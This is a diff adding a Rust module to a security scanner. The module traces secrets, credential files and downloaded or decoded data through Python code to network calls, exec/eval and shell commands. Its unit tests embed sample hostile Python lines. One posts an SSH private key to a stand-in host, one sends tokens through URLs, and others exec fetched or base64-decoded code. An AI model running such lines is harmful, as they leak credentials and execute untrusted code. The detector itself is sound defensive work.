@@ -1,0 +1,906 @@
+//! Python on its syntax tree: which values hold secrets (secret environment variables, the
+//! whole environment, credential files), downloaded, decoded or file data, and where they go:
+//! network calls (EXF020, EXF021), `exec`/`eval`/`shell=True` (SUP020, EXE020), serialised
+//! bundles of secrets (CRD020). The analysis is by name and flow-insensitive within a file:
+//! a variable holds whatever any assignment gave it, a parameter whatever any call passed, a
+//! call to a local function returns what its `return`s do. Passes repeat until nothing new
+//! is learnt (at most [`PASSES`]), then one more reports.
+
+use std::collections::{HashMap, HashSet};
+
+use tree_sitter::{Node, Parser};
+
+use super::secrets::{self, credential_path, loopback, url_host};
+use super::taint::{self, Taint, DECODED, DOWNLOAD, FILE, SECRET};
+use super::Hit;
+use crate::guard::rule::Rule;
+use crate::guard::rules::{
+    credential_exposure::CRD020,
+    execution::EXE020,
+    exfiltration::{EXF020, EXF021},
+    supply_chain::SUP020,
+};
+
+const PASSES: usize = 4;
+const MAX_DEPTH: usize = 150;
+const MAX_NODES: usize = 400_000;
+const MAX_TEXT: usize = 4096;
+
+thread_local! {
+    static PARSER: std::cell::RefCell<Option<Parser>> = const { std::cell::RefCell::new(None) };
+}
+
+fn parse(text: &str) -> Option<tree_sitter::Tree> {
+    PARSER.with(|cell| {
+        let mut slot = cell.borrow_mut();
+        if slot.is_none() {
+            let mut p = Parser::new();
+            p.set_language(&tree_sitter_python::LANGUAGE.into()).ok()?;
+            *slot = Some(p);
+        }
+        let parser = slot.as_mut()?;
+        parser.reset();
+        parser.parse(text, None)
+    })
+}
+
+/// A value as far as the file tells.
+#[derive(Debug, Clone, Default)]
+struct Val {
+    taint: Taint,
+    /// The string it holds, when constant (paths and URLs are judged by it).
+    text: Option<String>,
+}
+
+impl Val {
+    fn text(t: &str) -> Val {
+        Val {
+            taint: Taint::default(),
+            text: (t.len() <= MAX_TEXT).then(|| t.to_owned()),
+        }
+    }
+    fn taint(t: Taint) -> Val {
+        Val {
+            taint: t,
+            text: None,
+        }
+    }
+}
+
+pub fn analyze(text: &str, out: &mut Vec<Hit>) {
+    let Some(tree) = parse(text) else { return };
+    let mut a = Analysis {
+        src: text,
+        vars: HashMap::new(),
+        functions: HashMap::new(),
+        returns: HashMap::new(),
+        report: false,
+        hits: Vec::new(),
+        seen: HashSet::new(),
+        nodes: 0,
+        level: 0,
+        scope: None,
+        changed: false,
+    };
+    a.collect_functions(tree.root_node(), 0);
+    for _ in 0..PASSES {
+        a.changed = false;
+        a.nodes = 0;
+        a.block(tree.root_node());
+        if !a.changed {
+            break;
+        }
+    }
+    a.report = true;
+    a.nodes = 0;
+    a.block(tree.root_node());
+    out.extend(a.hits);
+}
+
+struct Analysis<'s> {
+    src: &'s str,
+    /// `scope:name` (or `:name` at module level) -> what it may hold.
+    vars: HashMap<String, Val>,
+    /// Function name -> its parameter names.
+    functions: HashMap<String, Vec<String>>,
+    /// Function name -> what its returns may hold.
+    returns: HashMap<String, Taint>,
+    report: bool,
+    hits: Vec<Hit>,
+    seen: HashSet<(usize, &'static str)>,
+    nodes: usize,
+    level: usize,
+    /// The function being walked.
+    scope: Option<String>,
+    changed: bool,
+}
+
+impl<'s> Analysis<'s> {
+    fn text(&self, n: Node) -> &'s str {
+        &self.src[n.byte_range()]
+    }
+
+    fn hit(&mut self, rule: &'static Rule, n: Node) {
+        if self.report && self.seen.insert((n.start_byte(), rule.id)) {
+            self.hits.push(Hit {
+                rule,
+                start: n.start_byte(),
+                end: n.end_byte(),
+            });
+        }
+    }
+
+    fn collect_functions(&mut self, n: Node, depth: usize) {
+        if depth > MAX_DEPTH {
+            return;
+        }
+        if n.kind() == "function_definition" {
+            if let (Some(name), Some(params)) = (
+                n.child_by_field_name("name"),
+                n.child_by_field_name("parameters"),
+            ) {
+                let mut names = Vec::new();
+                let mut c = params.walk();
+                for p in params.named_children(&mut c) {
+                    let id = match p.kind() {
+                        "identifier" => Some(p),
+                        _ => p.child_by_field_name("name").or_else(|| p.named_child(0)),
+                    };
+                    if let Some(id) = id {
+                        names.push(self.text(id).to_owned());
+                    }
+                }
+                self.functions.insert(self.text(name).to_owned(), names);
+            }
+        }
+        let mut c = n.walk();
+        let children: Vec<Node> = n.named_children(&mut c).collect();
+        for ch in children {
+            self.collect_functions(ch, depth + 1);
+        }
+    }
+
+    fn key(&self, name: &str) -> String {
+        format!("{}:{name}", self.scope.as_deref().unwrap_or(""))
+    }
+
+    fn lookup(&self, name: &str) -> Option<&Val> {
+        self.vars
+            .get(&self.key(name))
+            .or_else(|| self.vars.get(&format!(":{name}")))
+    }
+
+    fn bind(&mut self, name: &str, v: &Val) {
+        let key = self.key(name);
+        let entry = self.vars.entry(key).or_default();
+        let before = entry.taint.clone();
+        entry.taint.add(&v.taint);
+        if v.text.is_some() {
+            entry.text = v.text.clone();
+        }
+        if entry.taint != before {
+            self.changed = true;
+        }
+    }
+
+    fn bind_target(&mut self, target: Node, v: &Val) {
+        match target.kind() {
+            "identifier" => {
+                let name = self.text(target).to_owned();
+                self.bind(&name, v);
+            }
+            "pattern_list" | "tuple_pattern" | "list_pattern" | "tuple" | "list" => {
+                let mut c = target.walk();
+                let parts: Vec<Node> = target.named_children(&mut c).collect();
+                for p in parts {
+                    self.bind_target(p, v);
+                }
+            }
+            // `obj.attr = v`, `d[k] = v`: the object holds it now.
+            "attribute" | "subscript" => {
+                let base = target
+                    .child_by_field_name("object")
+                    .or_else(|| target.child_by_field_name("value"));
+                if let Some(b) = base {
+                    self.bind_target(b, v);
+                }
+            }
+            _ => {}
+        }
+    }
+
+    fn block(&mut self, n: Node) {
+        self.nodes += 1;
+        if self.nodes > MAX_NODES || self.level > MAX_DEPTH {
+            return;
+        }
+        self.level += 1;
+        self.statement(n);
+        self.level -= 1;
+    }
+
+    fn statement(&mut self, n: Node) {
+        match n.kind() {
+            "function_definition" => {
+                let name = n
+                    .child_by_field_name("name")
+                    .map(|x| self.text(x).to_owned());
+                let saved = self.scope.take();
+                self.scope = name;
+                if let Some(body) = n.child_by_field_name("body") {
+                    self.block(body);
+                }
+                self.scope = saved;
+            }
+            "expression_statement" => {
+                let mut c = n.walk();
+                let parts: Vec<Node> = n.named_children(&mut c).collect();
+                for p in parts {
+                    self.expr_or_assign(p);
+                }
+            }
+            "return_statement" => {
+                let v = match n.named_child(0) {
+                    Some(e) => self.eval(e),
+                    None => Val::default(),
+                };
+                if let Some(f) = self.scope.clone() {
+                    let entry = self.returns.entry(f).or_default();
+                    let before = entry.clone();
+                    entry.add(&v.taint);
+                    if *entry != before {
+                        self.changed = true;
+                    }
+                }
+            }
+            "for_statement" => {
+                let v = match n.child_by_field_name("right") {
+                    Some(r) => self.eval(r),
+                    None => Val::default(),
+                };
+                if let Some(l) = n.child_by_field_name("left") {
+                    self.bind_target(l, &Val::taint(v.taint));
+                }
+                self.children_blocks(n, &["body", "alternative"]);
+            }
+            "with_statement" => {
+                let mut c = n.walk();
+                let children: Vec<Node> = n.named_children(&mut c).collect();
+                for ch in children {
+                    if ch.kind() == "with_clause" {
+                        let mut c2 = ch.walk();
+                        let items: Vec<Node> = ch.named_children(&mut c2).collect();
+                        for item in items {
+                            let Some(value) = item.child_by_field_name("value") else {
+                                continue;
+                            };
+                            // `open(p) as f` parses as an `as_pattern`.
+                            if value.kind() == "as_pattern" {
+                                let v = value
+                                    .named_child(0)
+                                    .map(|e| self.eval(e))
+                                    .unwrap_or_default();
+                                if let Some(alias) = value.child_by_field_name("alias") {
+                                    let target = alias.named_child(0).unwrap_or(alias);
+                                    self.bind_target(target, &v);
+                                }
+                            } else {
+                                self.eval(value);
+                            }
+                        }
+                    } else {
+                        self.block(ch);
+                    }
+                }
+            }
+            "decorated_definition"
+            | "class_definition"
+            | "if_statement"
+            | "while_statement"
+            | "try_statement"
+            | "block"
+            | "module"
+            | "elif_clause"
+            | "else_clause"
+            | "except_clause"
+            | "finally_clause"
+            | "match_statement"
+            | "case_clause"
+            | "ERROR" => {
+                let mut c = n.walk();
+                let children: Vec<Node> = n.named_children(&mut c).collect();
+                for ch in children {
+                    match ch.kind() {
+                        // Conditions are expressions; their calls may be sinks too.
+                        k if k.ends_with("statement")
+                            || k.ends_with("definition")
+                            || k.ends_with("clause")
+                            || k == "block"
+                            || k == "ERROR" =>
+                        {
+                            self.block(ch)
+                        }
+                        _ => {
+                            self.eval(ch);
+                        }
+                    }
+                }
+            }
+            _ => {
+                self.expr_or_assign(n);
+            }
+        }
+    }
+
+    fn children_blocks(&mut self, n: Node, fields: &[&str]) {
+        for f in fields {
+            if let Some(b) = n.child_by_field_name(f) {
+                self.block(b);
+            }
+        }
+    }
+
+    fn expr_or_assign(&mut self, n: Node) {
+        match n.kind() {
+            "assignment" | "augmented_assignment" => {
+                let v = match n.child_by_field_name("right") {
+                    Some(r) => self.eval(r),
+                    None => Val::default(),
+                };
+                if let Some(l) = n.child_by_field_name("left") {
+                    self.bind_target(l, &v);
+                }
+            }
+            _ => {
+                self.eval(n);
+            }
+        }
+    }
+
+    fn eval(&mut self, n: Node) -> Val {
+        self.nodes += 1;
+        if self.nodes > MAX_NODES || self.level > MAX_DEPTH {
+            return Val::default();
+        }
+        self.level += 1;
+        let v = self.eval_inner(n);
+        self.level -= 1;
+        v
+    }
+
+    fn eval_all(&mut self, n: Node) -> Val {
+        let mut v = Val::default();
+        let mut c = n.walk();
+        let parts: Vec<Node> = n.named_children(&mut c).collect();
+        for p in parts {
+            let x = self.eval(p);
+            v.taint.add(&x.taint);
+        }
+        v
+    }
+
+    fn eval_inner(&mut self, n: Node) -> Val {
+        match n.kind() {
+            "string" => {
+                let mut text = String::new();
+                let mut taint = Taint::default();
+                let mut constant = true;
+                let mut c = n.walk();
+                let parts: Vec<Node> = n.named_children(&mut c).collect();
+                for p in parts {
+                    match p.kind() {
+                        "string_content" => text.push_str(self.text(p)),
+                        "interpolation" => {
+                            constant = false;
+                            let v = self.eval_all(p);
+                            taint.add(&v.taint);
+                            text.push_str("{}");
+                        }
+                        _ => {}
+                    }
+                }
+                Val {
+                    taint,
+                    text: (constant || text.contains("://")).then_some(text),
+                }
+            }
+            "concatenated_string" => {
+                let mut out = Val::text("");
+                let mut c = n.walk();
+                let parts: Vec<Node> = n.named_children(&mut c).collect();
+                for p in parts {
+                    let v = self.eval(p);
+                    out.taint.add(&v.taint);
+                    match (&mut out.text, v.text) {
+                        (Some(t), Some(s)) => t.push_str(&s),
+                        (t, _) => *t = None,
+                    }
+                }
+                out
+            }
+            "identifier" => {
+                let name = self.text(n);
+                self.lookup(name).cloned().unwrap_or_default()
+            }
+            "attribute" => {
+                let full = self.text(n);
+                if full == "os.environ" || full == "environ" {
+                    return Val::taint(Taint::secret(taint::ENVIRONMENT));
+                }
+                let obj = n.child_by_field_name("object");
+                match obj {
+                    Some(o) => {
+                        let v = self.eval(o);
+                        Val::taint(v.taint)
+                    }
+                    None => Val::default(),
+                }
+            }
+            "subscript" => {
+                let value = n.child_by_field_name("value");
+                let key = n.child_by_field_name("subscript");
+                if let (Some(v), Some(k)) = (value, key) {
+                    let base = self.text(v);
+                    if base == "os.environ" || base == "environ" {
+                        let kv = self.eval(k);
+                        return env_read(kv.text.as_deref());
+                    }
+                    let b = self.eval(v);
+                    return Val::taint(b.taint);
+                }
+                Val::default()
+            }
+            "binary_operator" => {
+                let l = n
+                    .child_by_field_name("left")
+                    .map(|x| self.eval(x))
+                    .unwrap_or_default();
+                let r = n
+                    .child_by_field_name("right")
+                    .map(|x| self.eval(x))
+                    .unwrap_or_default();
+                let op = n
+                    .child_by_field_name("operator")
+                    .map(|o| self.text(o))
+                    .unwrap_or("");
+                let text = match (op, &l.text, &r.text) {
+                    ("+", Some(a), Some(b)) if a.len() + b.len() <= MAX_TEXT => {
+                        Some(format!("{a}{b}"))
+                    }
+                    ("/", Some(a), Some(b)) if a.len() + b.len() < MAX_TEXT => {
+                        Some(format!("{}/{}", a.trim_end_matches('/'), b))
+                    }
+                    ("+", Some(a), None) if a.contains("://") => Some(a.clone()),
+                    _ => None,
+                };
+                Val {
+                    taint: l.taint.union(&r.taint),
+                    text,
+                }
+            }
+            "dictionary" | "list" | "set" | "tuple" => {
+                let v = self.eval_all(n);
+                self.bundle(n, &v.taint);
+                v
+            }
+            "call" => self.call(n),
+            "parenthesized_expression"
+            | "await"
+            | "keyword_argument"
+            | "pair"
+            | "list_splat"
+            | "dictionary_splat"
+            | "conditional_expression"
+            | "boolean_operator"
+            | "list_comprehension"
+            | "generator_expression"
+            | "dictionary_comprehension"
+            | "set_comprehension"
+            | "for_in_clause"
+            | "if_clause"
+            | "lambda"
+            | "comparison_operator"
+            | "not_operator"
+            | "unary_operator"
+            | "expression_list"
+            | "argument_list"
+            | "slice"
+            | "named_expression" => self.eval_all(n),
+            "assignment" | "augmented_assignment" => {
+                self.expr_or_assign(n);
+                Val::default()
+            }
+            _ => Val::default(),
+        }
+    }
+
+    /// A literal holding secrets of two or more sources (or a whole environment) is a bundle
+    /// made to travel.
+    fn bundle(&mut self, n: Node, t: &Taint) {
+        if !t.has(SECRET) {
+            return;
+        }
+        let mut vendors: HashSet<String> = HashSet::new();
+        for s in &t.sources {
+            let w = secrets::vendor_words(s);
+            vendors.insert(if w.is_empty() { s.clone() } else { w.join("_") });
+        }
+        if vendors.len() >= 2 || t.sources.iter().any(|s| s == taint::ENVIRONMENT) {
+            self.hit(&CRD020, n);
+        }
+    }
+
+    fn call(&mut self, n: Node) -> Val {
+        let func = n.child_by_field_name("function");
+        let callee = func.map(|f| self.text(f)).unwrap_or("").to_owned();
+        let method = callee.rsplit('.').next().unwrap_or(&callee).to_owned();
+        let receiver = func
+            .filter(|f| f.kind() == "attribute")
+            .and_then(|f| f.child_by_field_name("object"));
+        let recv = receiver.map(|r| self.eval(r)).unwrap_or_default();
+        // Arguments: positional values, keyword values by name.
+        let mut positional: Vec<(Node, Val)> = Vec::new();
+        let mut keywords: Vec<(String, Node, Val)> = Vec::new();
+        if let Some(args) = n.child_by_field_name("arguments") {
+            let mut c = args.walk();
+            let list: Vec<Node> = args.named_children(&mut c).collect();
+            for a in list {
+                if a.kind() == "keyword_argument" {
+                    let name = a
+                        .child_by_field_name("name")
+                        .map(|x| self.text(x).to_owned())
+                        .unwrap_or_default();
+                    let v = a
+                        .child_by_field_name("value")
+                        .map(|x| self.eval(x))
+                        .unwrap_or_default();
+                    keywords.push((name, a, v));
+                } else if a.kind() != "comment" {
+                    let v = self.eval(a);
+                    positional.push((a, v));
+                }
+            }
+        }
+        let mut all = recv.taint.clone();
+        for (_, v) in &positional {
+            all.add(&v.taint);
+        }
+        for (_, _, v) in &keywords {
+            all.add(&v.taint);
+        }
+        let first_text = positional.first().and_then(|(_, v)| v.text.clone());
+
+        // Sources.
+        if matches!(
+            callee.as_str(),
+            "os.getenv" | "getenv" | "os.environ.get" | "environ.get"
+        ) {
+            return env_read(first_text.as_deref());
+        }
+        if matches!(
+            callee.as_str(),
+            "os.path.expanduser"
+                | "os.path.expandvars"
+                | "os.path.abspath"
+                | "os.path.realpath"
+                | "Path"
+                | "pathlib.Path"
+                | "str"
+                | "os.fspath"
+        ) {
+            return Val {
+                taint: all,
+                text: first_text,
+            };
+        }
+        if callee == "os.path.join" {
+            let parts: Option<Vec<String>> =
+                positional.iter().map(|(_, v)| v.text.clone()).collect();
+            return Val {
+                taint: all,
+                text: parts.map(|p| p.join("/")),
+            };
+        }
+        if matches!(
+            callee.as_str(),
+            "Path.home" | "pathlib.Path.home" | "os.path.expanduser('~')"
+        ) {
+            return Val::text("~");
+        }
+        if matches!(callee.as_str(), "open" | "io.open" | "codecs.open")
+            || matches!(method.as_str(), "read_text" | "read_bytes" | "open") && receiver.is_some()
+        {
+            let path = if receiver.is_some() && callee != "open" && callee != "io.open" {
+                recv.text.clone()
+            } else {
+                first_text.clone()
+            };
+            let mut t = all.clone();
+            if let Some(p) = &path {
+                if credential_path(p) {
+                    t.add(&Taint::secret(taint::CREDENTIAL_FILE));
+                } else if !p.ends_with(".py")
+                    && !p.ends_with(".sh")
+                    && !p.ends_with(".json")
+                    && !p.ends_with(".yaml")
+                    && !p.ends_with(".yml")
+                    && !p.ends_with(".csv")
+                    && !p.ends_with(".md")
+                {
+                    t.flags |= FILE;
+                }
+            } else {
+                t.flags |= FILE;
+            }
+            return Val::taint(t);
+        }
+        if matches!(
+            callee.as_str(),
+            "base64.b64decode"
+                | "base64.b32decode"
+                | "base64.a85decode"
+                | "base64.b85decode"
+                | "base64.urlsafe_b64decode"
+                | "bytes.fromhex"
+                | "binascii.unhexlify"
+                | "binascii.a2b_base64"
+                | "codecs.decode"
+                | "zlib.decompress"
+                | "gzip.decompress"
+                | "lzma.decompress"
+                | "bz2.decompress"
+                | "marshal.loads"
+                | "b64decode"
+                | "unhexlify"
+        ) {
+            all.flags |= DECODED;
+            return Val::taint(all);
+        }
+
+        // Code execution.
+        let shell_true = keywords
+            .iter()
+            .any(|(k, a, _)| k == "shell" && self.text(*a).ends_with("True"));
+        let runs_code = matches!(
+            callee.as_str(),
+            "exec"
+                | "eval"
+                | "compile"
+                | "execfile"
+                | "builtins.exec"
+                | "pickle.loads"
+                | "marshal.loads"
+                | "runpy.run_path"
+        ) || matches!(
+            callee.as_str(),
+            "os.system"
+                | "os.popen"
+                | "commands.getoutput"
+                | "subprocess.getoutput"
+                | "subprocess.getstatusoutput"
+                | "pty.spawn"
+        ) || callee.starts_with("subprocess.")
+            && (shell_true || positional.first().is_some_and(|(a, _)| a.kind() != "list"));
+        if runs_code {
+            let t = positional
+                .first()
+                .map(|(_, v)| v.taint.clone())
+                .unwrap_or_default();
+            if t.has(DOWNLOAD) {
+                self.hit(&SUP020, n);
+            } else if t.has(DECODED) || t.has(FILE) {
+                self.hit(&EXE020, n);
+            }
+        }
+
+        // Network.
+        let downloads = matches!(
+            method.as_str(),
+            "get" | "urlopen" | "request" | "post" | "put" | "fetch" | "urlretrieve" | "stream"
+        ) && (callee.starts_with("requests.")
+            || callee.starts_with("httpx.")
+            || callee.starts_with("urllib")
+            || callee.starts_with("aiohttp")
+            || callee == "urlopen"
+            || callee == "urlretrieve"
+            || recv_is_client(&callee));
+        let dns = matches!(
+            callee.as_str(),
+            "socket.gethostbyname"
+                | "socket.getaddrinfo"
+                | "socket.gethostbyname_ex"
+                | "dns.resolver.resolve"
+                | "dns.resolver.query"
+                | "resolver.resolve"
+                | "resolver.query"
+        );
+        if dns && positional.first().is_some_and(|(_, v)| v.taint.has(SECRET)) {
+            self.hit(&EXF021, n);
+        }
+        let sink = downloads
+            || matches!(
+                method.as_str(),
+                "sendall"
+                    | "sendto"
+                    | "sendmail"
+                    | "send_message"
+                    | "upload_file"
+                    | "put_object"
+                    | "storbinary"
+            )
+            || method == "send"
+                && receiver.is_some_and(|r| {
+                    let t = self.text(r).to_ascii_lowercase();
+                    t.contains("sock") || t == "s" || t.contains("conn") || t.contains("ws")
+                })
+            || callee == "urllib.request.Request"
+            || callee == "Request";
+        if sink {
+            self.network_sink(n, &callee, &positional, &keywords, &recv);
+        }
+        // Local functions: arguments flow into parameters, returns flow out.
+        if let Some(params) = self.functions.get(&callee).cloned() {
+            let saved = self.scope.replace(callee.clone());
+            for (i, (_, v)) in positional.iter().enumerate() {
+                if let Some(p) = params.get(i) {
+                    self.bind(p, v);
+                }
+            }
+            for (k, _, v) in &keywords {
+                if params.contains(k) {
+                    self.bind(k, v);
+                }
+            }
+            self.scope = saved;
+            let mut out = self.returns.get(&callee).cloned().unwrap_or_default();
+            if downloads {
+                out.flags |= DOWNLOAD;
+            }
+            return Val::taint(out);
+        }
+        if downloads {
+            all.flags |= DOWNLOAD;
+        }
+        Val::taint(all)
+    }
+
+    fn network_sink(
+        &mut self,
+        n: Node,
+        callee: &str,
+        positional: &[(Node, Val)],
+        keywords: &[(String, Node, Val)],
+        recv: &Val,
+    ) {
+        let mut data = recv.taint.clone();
+        let mut header = Taint::default();
+        let mut url: Option<String> = None;
+        for (i, (_, v)) in positional.iter().enumerate() {
+            // `requests.request("POST", url, ...)`: the method comes first.
+            let is_method = i == 0
+                && callee.ends_with("request")
+                && v.text
+                    .as_deref()
+                    .is_some_and(|t| t.chars().all(|c| c.is_ascii_uppercase()));
+            if url.is_none() && !is_method {
+                url = v.text.clone();
+            }
+            data.add(&v.taint);
+        }
+        for (k, _, v) in keywords {
+            if k == "url" {
+                url = v.text.clone();
+            }
+            if matches!(k.as_str(), "headers" | "auth" | "cookies") {
+                header.add(&v.taint);
+            } else {
+                data.add(&v.taint);
+            }
+        }
+        let host = url.as_deref().and_then(url_host).map(str::to_owned);
+        if host.as_deref().is_some_and(loopback) {
+            return;
+        }
+        if !data.has(SECRET) && !header.has(SECRET) {
+            return;
+        }
+        let all = data.clone().union(&header);
+        if let Some(h) = &host {
+            if all.vendor_owned(h) {
+                return;
+            }
+        }
+        if !data.has(SECRET) && (host.is_none() || header.generic_names_only()) {
+            return;
+        }
+        self.hit(&EXF020, n);
+    }
+}
+
+/// A client object's method (`session.post`, `client.get`, `http.request`).
+fn recv_is_client(callee: &str) -> bool {
+    let recv = callee
+        .rsplit_once('.')
+        .map(|(r, _)| r)
+        .unwrap_or("")
+        .to_ascii_lowercase();
+    recv.ends_with("session")
+        || recv.ends_with("client")
+        || recv == "http"
+        || recv.ends_with("pool")
+        || recv == "s"
+}
+
+fn env_read(key: Option<&str>) -> Val {
+    match key {
+        Some(k) if secrets::secret_name(k) => Val::taint(Taint::secret(k)),
+        _ => Val::default(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(text: &str) -> Vec<&'static str> {
+        let mut out = Vec::new();
+        analyze(text, &mut out);
+        let mut ids: Vec<&'static str> = out.iter().map(|h| h.rule.id).collect();
+        ids.sort();
+        ids.dedup();
+        ids
+    }
+
+    #[test]
+    fn secrets_reach_network_calls_through_names_and_functions() {
+        assert_eq!(rules("import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\nrequests.post('https://t.example/u', data=key)\n"), vec!["EXF020"]);
+        assert_eq!(rules("import os\nfrom urllib.request import urlopen\ndef send(v):\n    urlopen('https://t.example/?d=' + v)\nsend(os.environ['NPM_TOKEN'])\n"), vec!["EXF020"]);
+        assert_eq!(rules("import base64, os, requests\nh = base64.b64encode(os.environ['JWT_SECRET'].encode()).decode()\nrequests.post(u, json={'exif': f'{h}@x'})\n"), vec!["EXF020"]);
+        assert!(rules("import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n").is_empty());
+        assert!(rules(
+            "import os, requests\nrequests.post('http://127.0.0.1:9/x', json=dict(os.environ))\n"
+        )
+        .is_empty());
+        assert!(rules("import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post(base + '/v1/chat', headers={'Authorization': f'Bearer {key}'}, json=body)\n").is_empty());
+    }
+
+    #[test]
+    fn code_that_runs_what_it_fetched_or_decoded() {
+        assert_eq!(rules("import urllib.request\nexec(urllib.request.urlopen('https://t.example/p').read())\n"), vec!["SUP020"]);
+        assert_eq!(
+            rules("import requests\ncode = requests.get(u).text\nexec(code)\n"),
+            vec!["SUP020"]
+        );
+        assert_eq!(
+            rules("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
+            vec!["EXE020"]
+        );
+        assert_eq!(
+            rules(
+                "import subprocess\nsubprocess.run(open('references/.task').read(), shell=True)\n"
+            ),
+            vec!["EXE020"]
+        );
+        assert!(rules("import subprocess\nsubprocess.run(['git', 'status'])\nexec(open('pkg/version.py').read())\n").is_empty());
+    }
+
+    #[test]
+    fn bundles_of_secrets() {
+        assert_eq!(rules("import os, json\ns = {'A': os.environ['JWT_SECRET'], 'B': os.environ['SENDGRID_API_KEY']}\np = json.dumps(s)\n"), vec!["CRD020"]);
+        assert!(
+            rules("import os\ncfg = {'key': os.environ['OPENAI_API_KEY'], 'model': 'x'}\n")
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn hostile_input_is_bounded() {
+        let _ = rules(&format!(
+            "x = {}1{}",
+            "(".repeat(20_000),
+            ")".repeat(20_000)
+        ));
+        let _ = rules(&"a = a + a\n".repeat(5_000));
+        let _ = rules(&format!("s = '{}'", "x".repeat(1 << 20)));
+    }
+}
